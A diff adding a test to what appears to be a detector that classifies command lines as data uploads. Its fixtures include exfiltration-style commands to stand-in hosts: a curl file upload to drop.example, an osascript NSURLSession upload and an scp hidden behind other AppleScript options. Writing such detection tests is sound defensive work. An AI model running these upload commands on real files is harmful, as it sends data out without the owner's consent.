@@ -162,6 +162,20 @@ describe('uploadIntent: sends data', () => {
     expect(intentOf(args)).toEqual([verb, 'explicit', target]);
   });
 
+  it('reads continued lines and code behind other options', () => {
+    const code = '/usr/bin/curl -s --data-binary @x \\\n  https://drop.example';
+    expect(intentOf(['bash', '-c', code])).toEqual(['upload', 'explicit', 'drop.example']);
+    const script = 'var s = $.NSURLSession.sharedSession; s.uploadTaskWithRequestFromFile(r, f)';
+    expect(intentOf(['osascript', '-l', 'JavaScript', '-e', script])).toEqual([
+      'upload',
+      'explicit',
+      undefined,
+    ]);
+    expect(intentOf(['osascript', '-e', 'beep', '-e', 'do shell script "scp a host.example:"'])?.[0]).toBe(
+      'upload',
+    );
+  });
+
   it('knows a renamed copy of an Apple tool by its signing id', () => {
     const copy = { executable: '/tmp/x', signingId: 'com.apple.curl' };
     expect(intentOf(['/tmp/x', '-T', 'f', 'https://drop.example'], copy)).toEqual([
